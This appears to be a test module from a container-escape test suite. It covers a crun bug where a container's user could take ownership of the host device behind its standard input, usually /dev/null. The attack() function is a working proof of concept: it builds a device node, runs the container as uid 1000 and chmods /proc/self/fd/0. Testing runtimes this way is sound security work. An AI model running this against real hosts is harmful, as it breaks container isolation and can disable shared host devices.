"""The program becomes the owner of the device that its standard input is, the host's `/dev/null` usually, and takes it from everybody."""

import os

from bypass import inert

SOURCE = "containers/crun a9d12996: crun before 1.24 gives devices to the container's user"
WAY = "create"
STOPPED = inert("both low-level runtimes leave it; where they do not, the stream is a node of its own for the same device")
BARE = "at a create runc leaves /dev/null as it is, and crun opens the container's own; at an exec crun does not"


def attack(t):
    device = t.host + "/null"
    os.mknod(device, 0o20666, os.makedev(1, 3))
    os.chmod(device, 0o666)
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000}
    t.around = ["sh", "-c", 'exec "$@" <"$0"', device]
    t.run("chmod 0 /proc/self/fd/0; cat")
    now = os.stat(device)
    return "owned by %d, mode %o" % (now.st_uid, now.st_mode & 0o777) if now.st_uid or now.st_mode & 0o777 != 0o666 else ""
